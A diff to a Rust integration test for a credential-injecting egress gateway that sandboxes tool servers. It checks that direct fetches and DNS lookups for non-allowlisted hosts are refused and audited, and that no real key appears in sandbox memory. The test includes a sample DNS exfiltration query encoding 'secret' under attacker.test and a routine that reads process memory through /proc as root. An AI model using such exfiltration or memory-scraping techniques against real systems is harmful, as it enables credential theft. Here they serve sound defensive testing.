@@ -30,6 +30,8 @@ credentials:
     inject: {header: Authorization, format: "Bearer {token}"}
 tools:
   - {name: fetch, default: true}
+  - {name: fetch_direct, default: true}
+  - {name: resolve, default: true}
   - {name: env, default: true}
 "#;
 
@@ -140,6 +142,49 @@ async fn each_owner_s_key_is_injected_at_the_boundary_and_never_enters_the_sandb
     .await;
     assert!(denied.starts_with("HTTP/1.1 403"), "{denied}");
 
+    // a server that ignores HTTPS_PROXY: its resolver is the gateway, which hands out the
+    // sandbox's host-side address for allowlisted names only, and the transparent TLS listener
+    // there injects the same owner's key
+    let direct = text(&a, 5, "fetch_fetch_direct", json!({"url": url})).await;
+    assert_eq!(direct, "HTTP/1.1 200 OK\nhello alice");
+    let direct = text(&b, 5, "fetch_fetch_direct", json!({"url": url})).await;
+    assert_eq!(direct, "HTTP/1.1 200 OK\nhello bob");
+    let resolved = text(&a, 6, "fetch_resolve", json!({"name": HOST})).await;
+    let host_side = env
+        .lines()
+        .find_map(|l| l.strip_prefix("HTTPS_PROXY=http://"))
+        .and_then(|v| v.strip_suffix(":3128"))
+        .unwrap_or_else(|| panic!("{env}"));
+    assert_eq!(resolved, format!("rcode=0 {host_side}"));
+    let nx = text(&a, 7, "fetch_resolve", json!({"name": "evil.example.test"})).await;
+    assert_eq!(nx, "rcode=3", "not allowlisted: NXDOMAIN");
+    let exfil = text(
+        &a,
+        8,
+        "fetch_resolve",
+        json!({"name": "c2VjcmV0.attacker.test"}),
+    )
+    .await;
+    assert_eq!(exfil, "rcode=3");
+    let out = a
+        .call(
+            9,
+            "tools/call",
+            json!({"name": "fetch_fetch_direct", "arguments": {"url": "https://evil.example.test/"}}),
+        )
+        .await;
+    let failed = out["result"]["content"][0]["text"]
+        .as_str()
+        .unwrap_or_default();
+    assert!(
+        out["result"]["isError"] == true && failed.contains("resolving evil.example.test"),
+        "{out}"
+    );
+
+    // neither the environment nor the memory of any fetch sandbox ever held a real key
+    let scanned = scan_sandboxed_servers(&[b"ALICEKEY", b"BOBKEY"]);
+    assert!(scanned >= 2, "found {scanned} sandboxed servers to scan");
+
     // and the requests were audited
     let mut events = Vec::new();
     for _ in 0..50 {
@@ -151,7 +196,7 @@ async fn each_owner_s_key_is_injected_at_the_boundary_and_never_enters_the_sandb
             .into_iter()
             .filter(|e| e.action == "egress.request")
             .collect();
-        if events.len() >= 3 {
+        if events.len() >= 5 {
             break;
         }
         tokio::time::sleep(std::time::Duration::from_millis(50)).await;
@@ -169,7 +214,75 @@ async fn each_owner_s_key_is_injected_at_the_boundary_and_never_enters_the_sandb
             .any(|e| e.detail.contains("evil.example.test")),
         "{events:?}"
     );
+    // the DNS refusal is audited too
+    assert!(
+        events
+            .iter()
+            .any(|e| e.detail.contains("attacker.test") && e.detail.contains("\"DNS\"")),
+        "{events:?}"
+    );
     gw.stop().await;
+}
+
+/// Reads the environment and every readable memory region of each process running a
+/// sandboxed static server (`/.gig/server`), asserting none holds any of `secrets`; returns
+/// how many processes were scanned. Root reads them as a debugger would.
+fn scan_sandboxed_servers(secrets: &[&[u8]]) -> usize {
+    use std::io::{Read, Seek, SeekFrom};
+    let contains = |hay: &[u8], needle: &[u8]| hay.windows(needle.len()).any(|w| w == needle);
+    let mut scanned = 0;
+    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
+        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
+            continue;
+        };
+        let Ok(cmdline) = std::fs::read(format!("/proc/{pid}/cmdline")) else {
+            continue;
+        };
+        if !cmdline.starts_with(b"/.gig/server\0") {
+            continue;
+        }
+        let environ = std::fs::read(format!("/proc/{pid}/environ")).unwrap_or_default();
+        let Ok(maps) = std::fs::read_to_string(format!("/proc/{pid}/maps")) else {
+            continue;
+        };
+        let Ok(mut mem) = std::fs::File::open(format!("/proc/{pid}/mem")) else {
+            continue;
+        };
+        if !contains(&environ, b"GIG_CREDENTIAL_API_KEY=gigmcp-placeholder-") {
+            continue; // another test's sandbox
+        }
+        for line in maps.lines() {
+            let mut fields = line.split_whitespace();
+            let (Some(range), Some(perms)) = (fields.next(), fields.next()) else {
+                continue;
+            };
+            if !perms.starts_with('r') {
+                continue;
+            }
+            let (start, end) = range.split_once('-').unwrap();
+            let start = u64::from_str_radix(start, 16).unwrap();
+            let end = u64::from_str_radix(end, 16).unwrap();
+            if end - start > 512 << 20 || mem.seek(SeekFrom::Start(start)).is_err() {
+                continue;
+            }
+            let mut region = vec![0u8; (end - start) as usize];
+            let Ok(n) = mem.read(&mut region) else {
+                continue; // e.g. [vvar]
+            };
+            for secret in secrets {
+                assert!(
+                    !contains(&region[..n], secret),
+                    "pid {pid} holds {} in {line}",
+                    String::from_utf8_lossy(secret)
+                );
+            }
+        }
+        for secret in secrets {
+            assert!(!contains(&environ, secret), "pid {pid} environment");
+        }
+        scanned += 1;
+    }
+    scanned
 }
 
 const ENTRUSTED: &str = r#"
@@ -190,6 +303,8 @@ credentials:
     inject: {env: API_KEY}
 tools:
   - {name: fetch, default: true}
+  - {name: fetch_direct, default: true}
+  - {name: resolve, default: true}
   - {name: env, default: true}
 "#;
 
